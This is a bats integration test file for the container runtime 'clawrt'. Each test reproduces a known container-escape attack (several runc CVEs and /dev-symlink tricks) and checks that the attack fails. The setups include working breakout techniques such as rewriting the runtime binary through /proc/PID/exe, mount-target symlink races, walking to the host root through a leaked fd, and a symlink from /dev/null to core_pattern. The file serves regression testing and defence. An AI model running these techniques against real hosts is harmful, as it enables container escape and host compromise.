#!/usr/bin/env bats
# The known runtime-escape classes, each written as the attack itself (not a
# read of clawrt's code): each test fails against a runtime that has the
# hole.  Run one against the reference runtime with CLAWRT=runc; Debian's
# runc 1.1.5+ds1-1+deb12u1 still has the 2025 ones (see the report in each
# test's comment).  The attacking program is tests/integration/attacker.c,
# built static here.

load helpers

setup_file() {
  ATTACKER=$BATS_FILE_TMPDIR/attacker
  ${CC:-cc} -static -O -Wall -o "$ATTACKER" "$TESTS_DIR/attacker.c" ||
    skip "cannot build tests/integration/attacker.c static (libc6-dev has libc.a)"
  export ATTACKER
}

setup() {
  requires_root
  setup_bundle
  ID=e${CLAWRT_TEST_MARK//[^0-9]/}
  cp "$ATTACKER" "$ROOTFS/bin/attacker"
  CANARY=$BATS_TEST_TMPDIR/canary
  mkdir -p "$CANARY"
  echo "canary" > "$CANARY/file"
  CANARY_BEFORE=$(canary_state)
  MOUNTS_TO_UNDO=()
  # a vulnerable runtime lets the container write these host-wide files
  CORE_PATTERN=$(cat /proc/sys/kernel/core_pattern)
}

teardown() {
  teardown_bundle
  local m
  for m in "${MOUNTS_TO_UNDO[@]}"; do
    umount -l "$m" 2>/dev/null || true
  done
  rm -rf /tmp/clawrt-escape-*
  if [ -n "${CORE_PATTERN:-}" ] && [ "$(cat /proc/sys/kernel/core_pattern)" != "$CORE_PATTERN" ]; then
    echo "$CORE_PATTERN" > /proc/sys/kernel/core_pattern
    echo "the container changed the host's core_pattern (restored)" >&2
  fi
}

# host_dev_mounts: mount points under the host's /dev.
host_dev_mounts() {
  awk '$5 == "/dev" || index($5, "/dev/") == 1 { print $5 }' /proc/self/mountinfo | sort
}

canary_state() {
  find "$CANARY" -printf '%P %y %D %i %m %s %T@ %l\n' | sort
  cat "$CANARY/file"
}

assert_canary_untouched() {
  local now
  now=$(canary_state)
  [ "$now" = "$CANARY_BEFORE" ] || {
    echo "the canary outside the bundle changed:" >&2
    diff <(echo "$CANARY_BEFORE") <(echo "$now") >&2
    return 1
  }
  ! grep -F " $CANARY" /proc/self/mountinfo >&2 || { echo "a mount landed on the canary" >&2; return 1; }
}

# run_bounded ARGS...: `clawrt ARGS` with a time limit; status and output.
run_bounded() {
  run_nopipe timeout -k 5 60 env CLAWRT_TEST_MARK="$CLAWRT_TEST_MARK" \
    "$CLAWRT" --root "$CLAWRT_ROOT" "$@"
}

# ---- CVE-2019-5736 -------------------------------------------------------------
# The container's pid 1 watches for the runtime's exec process, holds its
# /proc/PID/exe, and tries to write through it, also after that process is
# gone.  /bin/victim is "#!/proc/self/exe": exec'ing it runs the runtime's
# own binary again, now inside the container and dumpable.  The exec runs
# from a copy of the runtime under test, so that a successful attack spoils
# the copy, not the build.  (runc 1.1.5 holds: its exec runs from a sealed
# memfd too.)
@test "escape CVE-2019-5736: no write to the runtime binary through /proc/PID/exe" {
  local rt=$BATS_TEST_TMPDIR/runtime-copy before i
  cp "$(command -v "$CLAWRT")" "$rt"
  before=$(sha256sum < "$rt")
  printf '#!/proc/self/exe\n' > "$ROOTFS/bin/victim"
  chmod 755 "$ROOTFS/bin/victim"
  update_config '.process.args = ["sh", "-c", "exec attacker exe-hijack 8 > /hijack.log 2>&1"]'
  run_bounded run -d -b "$BUNDLE" "$ID"
  [ "$status" = 0 ]
  sleep 0.2
  for i in $(seq 12); do
    timeout 10 "$rt" --root "$CLAWRT_ROOT" exec "$ID" /bin/victim </dev/null >/dev/null 2>&1 || true
    timeout 10 "$rt" --root "$CLAWRT_ROOT" exec "$ID" true </dev/null >/dev/null 2>&1 || true
  done
  wait_for_status "$ID" stopped 150
  echo "attacker's log:"
  cat "$ROOTFS/hijack.log"
  [ "$(sha256sum < "$rt")" = "$before" ]
  if grep -q WROTE "$ROOTFS/hijack.log"; then
    echo "the attacker wrote to a runtime binary" >&2
    return 1
  fi
  # it did see the runtime's processes: the attack had its chance
  grep -q '^seen ' "$ROOTFS/hijack.log"
}

# The same defence seen from the host, by root with every capability: the
# exe of a running `exec` (the runtime's re-executed copy) is held open, and
# once that process is gone, reopened for writing and written; and its
# mount is cloned with MOUNT_ATTR_RDONLY cleared, then written through.  A
# sealed memfd or an overlay without an upper layer refuses all of it; a
# plain read-only bind mount of the binary would not.
# exe_write_probe LAUNCHER...: runs `LAUNCHER RUNTIME-COPY --root ... exec`,
# prints what each attempt got.
exe_write_probe() {
  local rt=$BATS_TEST_TMPDIR/runtime-copy before pid i exe_dev rt_dev
  cp "$(command -v "$CLAWRT")" "$rt"
  before=$(sha256sum < "$rt")
  update_config '.process.args = ["sleep", "100"]'
  run_bounded run -d -b "$BUNDLE" "$ID"
  [ "$status" = 0 ]
  "$@" "$rt" --root "$CLAWRT_ROOT" exec "$ID" sleep 3 </dev/null >/dev/null 2>&1 &
  pid=$!
  # until it runs from its copy: a sealed memfd, or no longer the file it
  # was started from
  rt_dev=$(stat -c %d:%i "$rt")
  for i in $(seq 100); do
    exe_dev=$(stat -L -c %d:%i "/proc/$pid/exe" 2>/dev/null) || true
    [ -n "$exe_dev" ] && [ "$exe_dev" != "$rt_dev" ] && python3 - "$pid" <<'PY' && break
import fcntl, os, sys
fd = os.open("/proc/%s/exe" % sys.argv[1], os.O_RDONLY)
try:
    seals = fcntl.fcntl(fd, 1034)            # F_GET_SEALS
except OSError:
    seals = -1                               # not a memfd
st = os.fstatvfs(fd)
sys.exit(0 if seals == 15 or st.f_flag & os.ST_RDONLY else 1)
PY
    sleep 0.02
  done
  [ "$exe_dev" != "$rt_dev" ]
  run python3 - "$pid" <<'PY'
import ctypes, errno, os, sys, time
pid = int(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
fd = os.open("/proc/%d/exe" % pid, os.O_RDONLY)
print("exe", os.readlink("/proc/%d/exe" % pid))
while os.path.exists("/proc/%d" % pid) and open("/proc/%d/stat" % pid).read().split()[2] != "Z":
    time.sleep(0.05)
def try_write(path, what):
    try:
        w = os.open(path, os.O_WRONLY)
    except OSError as e:
        print(what, "open", errno.errorcode[e.errno]); return
    try:
        os.write(w, b"X")
        print(what, "WROTE")
    except OSError as e:
        print(what, "write", errno.errorcode[e.errno])
try_write("/proc/self/fd/%d" % fd, "reopen")
# open_tree(fd, "", OPEN_TREE_CLONE|AT_EMPTY_PATH), then mount_setattr
# clearing MOUNT_ATTR_RDONLY on the clone
t = libc.syscall(428, fd, b"", 1 | 0x1000)
if t < 0:
    print("clone", errno.errorcode[ctypes.get_errno()])
else:
    attr = (ctypes.c_uint64 * 4)(0, 1, 0, 0)
    r = libc.syscall(442, t, b"", 0x1000, attr, 32)
    print("clear-rdonly", "ok" if r == 0 else errno.errorcode[ctypes.get_errno()])
    try_write("/proc/self/fd/%d" % t, "clone")
PY
  echo "$output"
  [ "$status" -eq 0 ]
  [[ "$output" == *"reopen "* ]] && [[ "$output" != *WROTE* ]]
  [ "$(sha256sum < "$rt")" = "$before" ]
}

@test "escape CVE-2019-5736: the exe of a running exec cannot be written, even by host root" {
  # runc's exec parent never enters the container; clawrt's does, so all
  # of clawrt's exec runs from the copy
  runtime_is clawrt || skip "which process runs from a sealed copy is clawrt's own design"
  # from a file: the copy is an overlayfs without an upper layer
  exe_write_probe
  [[ "$output" == *"reopen open EROFS"* ]]
}

@test "escape CVE-2019-5736: the same where no overlay can be made: a sealed memfd" {
  runtime_is clawrt || skip "which process runs from a sealed copy is clawrt's own design"
  # started from an unsealed memfd, the binary has no directory to lay an
  # overlay on: the fallback copies it into a sealed memfd
  exe_write_probe python3 -c 'import os, sys
fd = os.memfd_create("unsealed", 0)
os.write(fd, open(sys.argv[1], "rb").read())
os.execv("/proc/self/fd/%d" % fd, sys.argv[1:])'
  [[ "$output" == *"exe /memfd:clawrt"* ]] && [[ "$output" == *"reopen write EPERM"* ]]
}

# ---- CVE-2021-30465 ---------------------------------------------------------------
# Container A shares a volume with container B and keeps exchanging, in it,
# a directory with a symlink to a host directory.  B mounts the volume at
# /vol and a tmpfs at /vol/d, many times over: a runtime that checks the
# target and then mounts on the path string mounts onto the host directory
# whenever the swap falls in between.  The host directory is a shared mount
# and B asks for shared propagation, so a mount that lands there is seen
# here; B also reports whether its tmpfs is in its own tree at all.
@test "escape CVE-2021-30465: a symlink swapped under a mount target does not redirect it" {
  local land=$BATS_TEST_TMPDIR/landing vol=$BATS_TEST_TMPDIR/vol b=$BATS_TEST_TMPDIR/bundle-b
  mkdir -p "$land" "$vol/d"
  mount -t tmpfs clawrt-landing "$land"
  MOUNTS_TO_UNDO+=("$land")
  mount --make-shared "$land"
  echo marker > "$land/marker"
  ln -s "$land" "$vol/l"
  local land_mounts
  land_mounts=$(awk -v m="$land" '$5 == m' /proc/self/mountinfo | wc -l)

  update_config --arg v "$vol" '.mounts += [{ destination: "/vol", type: "bind", source: $v, options: ["rbind"] }]'
  cp "$BUNDLE/config.json" "$BATS_TEST_TMPDIR/a.json"
  update_config '.process.args = ["attacker", "swap", "/vol/d", "/vol/l", "40"]'
  run_bounded run -d -b "$BUNDLE" "${ID}a"
  [ "$status" = 0 ]

  mkdir -p "$b"
  cp -a "$ROOTFS" "$b/rootfs"
  jq '.mounts += [{ destination: "/vol/d", type: "tmpfs", source: "clawrt-30465" }]
      | .linux.rootfsPropagation = "shared"
      | .process.args = ["sh", "-c", "grep -c \" - tmpfs clawrt-30465 \" /proc/self/mountinfo; true"]' \
    "$BATS_TEST_TMPDIR/a.json" > "$b/config.json"
  local i ok=0 failed=0 elsewhere=0 out
  for i in $(seq 150); do
    out=$(timeout -k 5 30 "$CLAWRT" --root "$CLAWRT_ROOT" run -b "$b" "${ID}b" </dev/null 2>&1) && {
      ok=$((ok + 1))
      [ "$out" = 1 ] || { elsewhere=$((elsewhere + 1)); echo "run $i: B sees $out tmpfs mounts: $out"; }
    } || failed=$((failed + 1))
    "$CLAWRT" --root "$CLAWRT_ROOT" delete -f "${ID}b" >/dev/null 2>&1 || true
    if [ "$(awk -v m="$land" '$5 == m' /proc/self/mountinfo | wc -l)" != "$land_mounts" ]; then
      echo "run $i: a mount of B landed on the host directory $land" >&2
      return 1
    fi
  done
  echo "B: $ok ran, $failed refused, $elsewhere with the tmpfs out of its tree"
  [ "$(cat "$land/marker")" = marker ]
  [ -z "$(ls -A "$land" | grep -vx marker)" ]
  [ "$elsewhere" = 0 ]
  # the attacker kept swapping all along
  wait_for_status "${ID}a" running 1
}

# ---- CVE-2024-21626 ---------------------------------------------------------------
# process.cwd (and exec --cwd) /proc/self/fd/N: with an fd of a host
# directory leaked into the container, the process starts outside the root
# and walks up to the host's /.  A host file only reachable that way must
# stay unread.  (Debian's runc 1.1.5+deb12u1 has the fix backported.)
@test "escape CVE-2024-21626: cwd /proc/self/fd/N never leaves the rootfs" {
  local secret_dir
  secret_dir=$(mktemp -d /tmp/clawrt-escape-secret.XXXXXX)
  echo "HOST-SECRET-$CLAWRT_TEST_MARK" > "$secret_dir/secret"
  local rel=${secret_dir#/}/secret
  local probe="for d in . .. ../.. ../../.. ../../../.. ../../../../.. ../../../../../.. ../../../../../../.. ../../../../../../../.. ../../../../../../../../..; do cat \$d/$rel 2>/dev/null; done; true"
  local n leaked=
  for n in $(seq 3 16); do
    update_config --arg c "/proc/self/fd/$n" --arg p "$probe" '.process.cwd = $c | .process.args = ["sh", "-c", $p]'
    run_bounded run -b "$BUNDLE" "$ID"
    [[ "$output" != *HOST-SECRET* ]] || leaked+=" run:cwd=/proc/self/fd/$n"
    clawrt delete -f "$ID" >/dev/null 2>&1 || true
  done
  update_config '.process.cwd = "/" | .process.args = ["sleep", "100"]'
  run_bounded run -d -b "$BUNDLE" "$ID"
  [ "$status" = 0 ]
  for n in $(seq 3 16); do
    run_bounded exec --cwd "/proc/self/fd/$n" "$ID" sh -c "$probe"
    [[ "$output" != *HOST-SECRET* ]] || leaked+=" exec:cwd=/proc/self/fd/$n"
  done
  # the probe itself works: from the host's root it finds the file
  (cd / && sh -c "$probe") | grep -q HOST-SECRET
  rm -rf "$secret_dir"
  [ -z "$leaked" ] || { echo "the host file was read with:$leaked"; return 1; }
}

# ---- CVE-2025-31133 ---------------------------------------------------------------
# maskedPaths are masked by bind-mounting /dev/null over them.  The rootfs
# brings its own /dev (no /dev tmpfs) whose null is a symlink to
# /proc/sys/kernel/core_pattern: a runtime that follows it mounts the
# host-wide core_pattern, writable, over the masked files.  Each masked
# file must be the null device (or the run refused).  The write the
# container tries puts back the value it read: nothing changes on the host
# even against a vulnerable runtime.  (runc 1.1.5 is vulnerable.)
@test "escape CVE-2025-31133: maskedPaths with /dev/null a symlink mask nothing writable" {
  local pattern
  pattern=$(cat /proc/sys/kernel/core_pattern)
  rm -rf "$ROOTFS/dev"
  mkdir -p "$ROOTFS/dev"
  ln -s /proc/sys/kernel/core_pattern "$ROOTFS/dev/null"
  update_config 'del(.mounts[] | select(.destination == "/dev" or (.destination | startswith("/dev/"))))
    | .linux.maskedPaths = ["/proc/timer_list", "/proc/keys"]
    | .linux.readonlyPaths = ["/proc/sys"]
    | .process.args = ["sh", "-c", "for p in /proc/timer_list /proc/keys; do echo \"$p $(stat -c %F:%t:%T $p)\"; v=$(cat /proc/sys/kernel/core_pattern); printf \"%s\\n\" \"$v\" > $p 2>/dev/null && [ ! -c $p ] && echo \"WRITABLE $p\"; done; true"]'
  run_bounded run -b "$BUNDLE" "$ID"
  echo "$output"
  [ "$(cat /proc/sys/kernel/core_pattern)" = "$pattern" ]
  if [ "$status" = 0 ]; then
    [[ "$output" != *WRITABLE* ]]
    # every masked file is the null device (major 1, minor 3)
    [ "$(grep -c 'character special file:1:3$' <<<"$output")" = 2 ]
  fi
  assert_canary_untouched
}

# ---- CVE-2025-52565 ---------------------------------------------------------------
# With a terminal the runtime bind-mounts the pty over /dev/console.  The
# rootfs's own /dev/console is a symlink: to a file of the rootfs, to a
# procfs file, to the canary outside the bundle.  The pty may land on
# /dev/console itself, never on the link's target.  (runc 1.1.5 is
# vulnerable.)
@test "escape CVE-2025-52565: /dev/console a symlink does not redirect the console mount" {
  local recvtty=$BATS_FILE_TMPDIR/recvtty
  [ -x "$recvtty" ] || ${CC:-cc} -O -Wall -o "$recvtty" "$TESTS_DIR/recvtty.c" || skip "cannot build recvtty"
  local sock_dir target
  sock_dir=$(mktemp -d /tmp/clawrt-escape-tty.XXXXXX)
  echo "plain file" > "$ROOTFS/etc/target"
  for target in /etc/target /proc/sysrq-trigger ../../../canary/file "$CANARY/file"; do
    rm -rf "$ROOTFS/dev"
    mkdir -p "$ROOTFS/dev/pts"
    ln -s pts/ptmx "$ROOTFS/dev/ptmx"
    ln -s "$target" "$ROOTFS/dev/console"
    update_config 'del(.mounts[] | select(.destination == "/dev"))
      | .process.terminal = true
      | .process.args = ["sh", "-c", "for p in /etc/target /proc/sysrq-trigger; do echo \"$p $(stat -c %F:%t $p)\"; done"]'
    rm -f "$sock_dir/sock"
    "$recvtty" -t 20 "$sock_dir/sock" > "$BATS_TEST_TMPDIR/tty.out" 2>&1 &
    local rpid=$!
    local i
    for i in $(seq 100); do [ -S "$sock_dir/sock" ] && break; sleep 0.05; done
    run_bounded create --console-socket "$sock_dir/sock" -b "$BUNDLE" "$ID"
    echo "/dev/console -> $target: create status $status: $output"
    if [ "$status" = 0 ]; then
      clawrt start "$ID"
      wait_for_status "$ID" stopped 100
      wait "$rpid" || true
      cat "$BATS_TEST_TMPDIR/tty.out"
      # the targets are what they were, not the pty (major 136, 0x88)
      if grep -q ':88' "$BATS_TEST_TMPDIR/tty.out"; then
        echo "the pty was mounted over the link's target" >&2
        return 1
      fi
      grep -q '^/etc/target regular file:0' "$BATS_TEST_TMPDIR/tty.out"
    else
      kill "$rpid" 2>/dev/null || true
      wait "$rpid" 2>/dev/null || true
    fi
    clawrt delete -f "$ID" >/dev/null 2>&1 || true
    [ "$(cat "$ROOTFS/etc/target")" = "plain file" ]
    assert_canary_untouched
  done
  rm -rf "$sock_dir"
}

# ---- CVE-2025-52881 ---------------------------------------------------------------
# The runtime's writes to the container's /proc (here: a sysctl) must reach
# procfs, the container's.  /proc/sys is shadowed by a tmpfs, by a bind of
# a fake tree whose file is a symlink out of the rootfs, or /proc itself is
# a symlink to a fake tree in the rootfs.  Each gets an error, or the
# sysctl really set in the container's uts namespace; never a write into
# the fake (the runtime would think a setting applied that is not).
# (runc 1.1.5 refuses mounts over /proc/sys; see the report for the rest.)
@test "escape CVE-2025-52881: procfs writes are not redirected by a fake /proc" {
  local fake=$BUNDLE/fake-sys
  mkdir -p "$fake/kernel"
  ln -s ../../../../canary/file "$fake/kernel/domainname"
  echo original > "$fake/kernel/hostname"
  mkdir -p "$ROOTFS/fakeproc/sys/kernel"
  echo original > "$ROOTFS/fakeproc/sys/kernel/domainname"
  local variant
  for variant in tmpfs bind symlink; do
    update_config '.linux.sysctl = { "kernel.domainname": "clawrt-52881" } | .hostname = "h"
      | .process.args = ["sleep", "100"]'
    case $variant in
      tmpfs) update_config '.mounts |= (map(select(.destination != "/proc/sys"))
               + [{ destination: "/proc/sys", type: "tmpfs", source: "clawrt-fake" }])' ;;
      bind) update_config --arg f "$fake" '.mounts += [{ destination: "/proc/sys", type: "bind", source: $f, options: ["rbind"] }]' ;;
      symlink) rmdir "$ROOTFS/proc" && ln -s fakeproc "$ROOTFS/proc" ;;
    esac
    run_bounded run -d -b "$BUNDLE" "$ID"
    echo "$variant: status $status: $output"
    if [ "$status" = 0 ]; then
      local pid
      pid=$(container_pid "$ID")
      # the sysctl is really set, where it belongs
      [ "$(nsenter -t "$pid" -u cat /proc/sys/kernel/domainname)" = clawrt-52881 ]
    fi
    clawrt delete -f "$ID" >/dev/null 2>&1 || true
    [ "$(cat "$ROOTFS/fakeproc/sys/kernel/domainname")" = original ]
    [ "$(cat "$fake/kernel/hostname")" = original ]
    [ "$(readlink "$fake/kernel/domainname")" = ../../../../canary/file ]
    assert_canary_untouched
    if [ "$variant" = symlink ]; then rm "$ROOTFS/proc" && mkdir "$ROOTFS/proc"; fi
    update_config 'del(.mounts[] | select(.destination == "/proc/sys"))'
  done
  # the host's own domainname is untouched
  [ "$(cat /proc/sys/kernel/domainname)" != clawrt-52881 ]
}

# ---- CVE-2022-29162 ---------------------------------------------------------------
# A process given capabilities without inheritable ones must get none
# inheritable, by create or by exec (--cap included): otherwise a file with
# inheritable file capabilities raises an unprivileged user above what the
# config gave.  The test execs, as uid 1000, a copy of busybox carrying
# cap_dac_override in its inheritable file set, and reads a root-only file.
# (runc 1.1.5 has the fix, 1.1.2.)
@test "escape CVE-2022-29162: no inheritable capabilities unless asked" {
  cp "$ROOTFS/bin/busybox" "$ROOTFS/bin/capcat"
  setcap cap_dac_override+ei "$ROOTFS/bin/capcat" || skip "setcap cannot set file capabilities here"
  echo "ROOT-ONLY" > "$ROOTFS/root/secret"
  chmod 600 "$ROOTFS/root/secret"
  chmod 755 "$ROOTFS/root"
  update_config '.process.args = ["sleep", "100"]
    | .process.capabilities = { bounding: ["CAP_DAC_OVERRIDE", "CAP_KILL", "CAP_SETUID", "CAP_SETGID"],
        effective: ["CAP_KILL"], permitted: ["CAP_KILL"] }'
  run_bounded run -d -b "$BUNDLE" "$ID"
  [ "$status" = 0 ]
  local pid
  pid=$(container_pid "$ID")
  [ "$(awk '/^CapInh:/ { print $2 }' "/proc/$pid/status")" = 0000000000000000 ]
  run_bounded exec "$ID" grep CapInh /proc/self/status
  [[ "$output" == *"CapInh:"*"0000000000000000"* ]]
  run_bounded exec --cap CAP_DAC_OVERRIDE "$ID" grep CapInh /proc/self/status
  [[ "$output" == *"CapInh:"*"0000000000000000"* ]]
  run_bounded exec --user 1000:1000 --cap CAP_DAC_OVERRIDE "$ID" grep CapInh /proc/self/status
  [[ "$output" == *"CapInh:"*"0000000000000000"* ]]
  # the escalation itself: inheritable file caps do nothing for uid 1000
  run_bounded exec --user 1000:1000 "$ID" /bin/capcat cat /root/secret
  [[ "$output" != *ROOT-ONLY* ]]
  run_bounded exec --user 1000:1000 --cap CAP_DAC_OVERRIDE "$ID" /bin/capcat cat /root/secret
  [[ "$output" != *ROOT-ONLY* ]]
  # asked for, they are there
  clawrt delete -f "$ID"
  update_config '.process.capabilities.inheritable = ["CAP_KILL"]'
  run_bounded run -d -b "$BUNDLE" "$ID"
  [ "$status" = 0 ]
  pid=$(container_pid "$ID")
  [ "$(awk '/^CapInh:/ { print $2 }' "/proc/$pid/status")" = 0000000000000020 ]
}

# ---- /dev a symlink ---------------------------------------------------------------
# A rootfs whose /dev is a symlink to the host's /dev (absolute or by
# climbing), or to the canary: device nodes, the default devices' bind
# mounts and /dev's own tmpfs must land in the container or nowhere, never
# on the host.
@test "escape /dev-symlink: device nodes and /dev mounts never land on the host" {
  local target node=clawrt-escape-node-${CLAWRT_TEST_MARK//[^0-9]/}
  local null_before dev_mounts_before
  null_before=$(stat -c '%F %t:%T %i' /dev/null)
  dev_mounts_before=$(host_dev_mounts)
  for target in /dev ../../../../../../../../dev "$CANARY" ../../canary; do
    rm -rf "$ROOTFS/dev"
    ln -s "$target" "$ROOTFS/dev"
    local with_tmpfs
    for with_tmpfs in no yes; do
      update_config --arg n "/dev/$node" 'del(.mounts[] | select(.destination == "/dev" or (.destination | startswith("/dev/"))))
        | .linux.devices = [{ path: $n, type: "c", major: 1, minor: 7 }]
        | .linux.rootfsPropagation = "shared"
        | .process.args = ["true"]'
      if [ "$with_tmpfs" = yes ]; then
        update_config '.mounts += [{ destination: "/dev", type: "tmpfs", source: "clawrt-devtmp", options: ["mode=755"] }]'
      fi
      run_bounded run -b "$BUNDLE" "$ID"
      echo "/dev -> $target, tmpfs $with_tmpfs: status $status: $output"
      clawrt delete -f "$ID" >/dev/null 2>&1 || true
      [ ! -e "/dev/$node" ]
      [ ! -e "$CANARY/$node" ]
      [ "$(stat -c '%F %t:%T %i' /dev/null)" = "$null_before" ]
      if [ "$(host_dev_mounts)" != "$dev_mounts_before" ] || grep -q clawrt-devtmp /proc/self/mountinfo; then
        echo "a mount landed on the host's /dev:" >&2
        diff <(echo "$dev_mounts_before") <(host_dev_mounts) >&2
        return 1
      fi
      assert_canary_untouched
    done
  done
  rm -f "$ROOTFS/dev"
  mkdir "$ROOTFS/dev"
}

# ---- hooks of a container that joins a pid namespace ------------------------------
# A container joining another's pid namespace: the runtime joins it for its
# child only.  Hooks are host programs run with the runtime's privileges;
# in the container's pid namespace they would be visible to it, and
# killable or traceable by it.  They must run in the runtime's own.
@test "escape: hooks of a container that joins a pid namespace run outside it" {
  update_config '.process.args = ["sleep", "100"]'
  run_bounded run -d -b "$BUNDLE" "${ID}a"
  [ "$status" = 0 ]
  local pid_a hook=$BATS_TEST_TMPDIR/hook.sh
  pid_a=$(container_pid "${ID}a")
  printf '#!/bin/sh\nreadlink /proc/self/ns/pid >> %s\n' "$BATS_TEST_TMPDIR/hook.ns" > "$hook"
  chmod 755 "$hook"
  update_config --arg p "/proc/$pid_a/ns/pid" --arg h "$hook" '
      .linux.namespaces |= map(if .type == "pid" then .path = $p else . end)
    | .hooks = { prestart: [{ path: $h }], createRuntime: [{ path: $h }], poststart: [{ path: $h }],
                 poststop: [{ path: $h }] }
    | .process.args = ["true"]'
  run_bounded run -b "$BUNDLE" "${ID}b"
  echo "$output"
  [ "$status" = 0 ]
  cat "$BATS_TEST_TMPDIR/hook.ns"
  [ "$(wc -l < "$BATS_TEST_TMPDIR/hook.ns")" = 4 ]
  [ "$(sort -u "$BATS_TEST_TMPDIR/hook.ns")" = "$(readlink /proc/self/ns/pid)" ]
}
